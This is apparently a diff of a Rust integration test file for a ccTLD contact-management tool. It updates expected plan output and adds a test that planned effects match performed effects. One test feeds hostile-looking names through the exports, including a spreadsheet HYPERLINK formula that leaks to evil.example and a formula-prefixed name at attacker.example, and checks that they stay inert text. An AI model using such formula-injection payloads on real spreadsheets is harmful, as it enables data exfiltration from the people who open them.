@@ -82,10 +82,14 @@ fn the_whole_procedure() {
     // A dry run says who would get what, and changes nothing.
     let dry = i.ok(&["invite", "--region", "CENTR", "--limit", "3", "--dry-run"]);
     assert!(
-        dry.contains("would send invitation → admin@dnsbelgium.example: [TLD-OPS .be #"),
+        dry.starts_with("Invite the ccTLDs of CENTR (the first 3)?\n  .be: uninvited → invited\n"),
         "{dry}"
     );
-    assert_eq!(dry.matches("would send").count(), 3, "{dry}");
+    assert!(
+        dry.contains("  Mail: the invitation to admin@dnsbelgium.example\n"),
+        "{dry}"
+    );
+    assert_eq!(dry.matches("Mail: the invitation to").count(), 3, "{dry}");
     assert!(dry.contains("dry run: nothing changed"));
     assert_eq!(case_state(&i, "be"), "uninvited");
     assert!(sent(&i).is_empty());
@@ -164,7 +168,11 @@ fn the_whole_procedure() {
 
     // Approve .be: both contacts subscribed (export backend), notice and welcomes sent.
     let out = i.ok(&["approve", "be"]);
-    assert!(out.contains("approved .be: Jan Peeters <jan.peeters@dnsbelgium.example>, +32 16 28 49 70; Els Janssens <els@cert.example>"), "{out}");
+    assert!(
+        out.starts_with("approved .be\n  .be: answered → approved\n"),
+        "{out}"
+    );
+    assert!(out.contains("  Subscribe to .be: Jan Peeters <jan.peeters@dnsbelgium.example>, +32 16 28 49 70\n  Subscribe to .be: Els Janssens <els@cert.example>\n"), "{out}");
     assert!(out.contains("sent 3 mails"), "{out}");
     assert_eq!(case_state(&i, "be"), "approved");
     let mails = sent(&i);
@@ -207,7 +215,9 @@ fn the_whole_procedure() {
     let refused = i.run(&["approve", "ch"]);
     assert_eq!(refused.code, 2);
     assert!(
-        refused.stderr.contains("needs --override-reason"),
+        refused
+            .stderr
+            .contains("needs an override reason (--override-reason)"),
         "{}",
         refused.stderr
     );
@@ -658,7 +668,7 @@ fn member_files_are_private_and_names_from_mail_stay_text() {
         names,
         [
             "'=HYPERLINK(\"http://evil.example/?leak\";\"Details\")",
-            "'-2+3; Piet\nNew <evil@attacker.example>",
+            "'-2+3; Piet New <evil@attacker.example>",
             &format!("'{long}"),
         ]
     );
@@ -672,7 +682,7 @@ fn member_files_are_private_and_names_from_mail_stay_text() {
     }
     let unfolded = vcard.replace("\r\n ", "");
     assert!(
-        unfolded.contains("\r\nFN:-2+3\\; Piet\\nNew <evil@attacker.example>\r\n"),
+        unfolded.contains("\r\nFN:-2+3\\; Piet New <evil@attacker.example>\r\n"),
         "{unfolded}"
     );
     assert!(
@@ -765,5 +775,125 @@ fn the_same_contact_named_twice_is_one_member() {
     let phone: String =
         i.scalar("SELECT phone FROM contacts WHERE tld = 'ae' AND state = 'subscribed'");
     assert_eq!(phone, "+971 4 777 0123");
+    assert!(i.ok(&["log", "--verify"]).starts_with("ok:"));
+}
+
+/// The installation's own service, as the front ends build it.
+fn service(i: &Install) -> tldops::service::Service {
+    let config = tldops::config::Config::parse(
+        support::install::CORPUS_CONFIG,
+        &i.path("config.toml"),
+        true,
+    )
+    .unwrap();
+    let store = tldops::store::Store::open(&i.path("data/tldops.sqlite3")).unwrap();
+    tldops::service::Service::new(store, config, "tester".into())
+}
+
+/// What a plan announces — every case move, every mail (kind and recipients), every member
+/// subscribed, removed or updated — is what performing the command then does; a command whose
+/// plan is refused is refused when performed too.
+#[test]
+fn what_a_plan_announces_is_what_perform_does() {
+    use tldops::service::{Command, Effects, Selection};
+    let i = fresh();
+    i.ok(&["invite", "--tld", "be", "--tld", "nl"]);
+    poll(
+        &i,
+        &[reply(
+            &i,
+            "be",
+            "admin@dnsbelgium.example",
+            "",
+            "Contacts: Jan Peeters <jan.peeters@dnsbelgium.example> +32 16 28 49 70\r\n\
+             and Els Janssens <els@cert.example>",
+        )],
+    );
+    i.ok(&["approve", "be"]);
+    std::thread::sleep(std::time::Duration::from_millis(1100));
+    poll(
+        &i,
+        &[reply(
+            &i,
+            "be",
+            "admin@dnsbelgium.example",
+            "",
+            "New list: Jan Peeters <jan.peeters@dnsbelgium.example> +32 16 28 49 99 and \
+             Ann Claes <ann.claes@dnsbelgium.example>, thanks",
+        )],
+    );
+    let s = service(&i);
+    // Message-IDs and new subject tokens are drawn at random: compare what they are for.
+    let shape = |e: &Effects| {
+        let mut e = e.clone();
+        for m in &mut e.mails {
+            m.message_id.clear();
+            m.subject.clear();
+        }
+        e
+    };
+    let commands = [
+        Command::Approve {
+            tld: "be".into(),
+            contacts: vec![],
+            override_reason: None,
+        },
+        Command::Invite {
+            selection: Selection {
+                tlds: vec!["ch".into(), "be".into()],
+                ..Selection::default()
+            },
+            again: false,
+        },
+        Command::Chase {
+            tlds: vec!["nl".into()],
+            due_only: false,
+        },
+        Command::Reject {
+            tld: "nl".into(),
+            reason: "no reply to reject".into(),
+        },
+        Command::SetContacts {
+            tld: "nl".into(),
+            contacts: vec![
+                tldops::domain::triage::Contact::from_line(
+                    "noc@sidn.example, NOC, +31 26 352 5500",
+                )
+                .unwrap(),
+            ],
+        },
+        Command::RemoveContact {
+            tld: "be".into(),
+            email: "ann.claes@dnsbelgium.example".into(),
+            reason: Some("left the registry".into()),
+        },
+    ];
+    let mut announced = Vec::new();
+    for command in &commands {
+        match (s.plan(command), s.perform(command, &mut |_| Ok(None))) {
+            (Ok(plan), Ok(done)) => {
+                assert_eq!(shape(&plan.effects), shape(&done.effects), "{command:?}");
+                announced.push(plan);
+            }
+            (Err(p), Err(d)) => assert_eq!(p.to_string(), d.to_string(), "{command:?}"),
+            (plan, done) => panic!("{command:?}: planned {plan:?}, performed {done:?}"),
+        }
+    }
+    // The second approval of .be names who goes, who stays with a new phone, who comes.
+    let lines = announced[0].lines().join("\n");
+    for want in [
+        "Subscribe to .be: Ann Claes <ann.claes@dnsbelgium.example>",
+        "Remove from .be: Els Janssens <els@cert.example>",
+        "Update in .be: Jan Peeters <jan.peeters@dnsbelgium.example>, +32 16 28 49 99",
+        "Mail: a welcome to ann.claes@dnsbelgium.example",
+    ] {
+        assert!(lines.contains(want), "{want}:\n{lines}");
+    }
+    assert!(!lines.contains("welcome to jan.peeters"), "{lines}");
+    assert_eq!(
+        announced.len(),
+        5,
+        "only the rejection of an unanswered case is refused"
+    );
     assert!(i.ok(&["log", "--verify"]).starts_with("ok:"));
 }
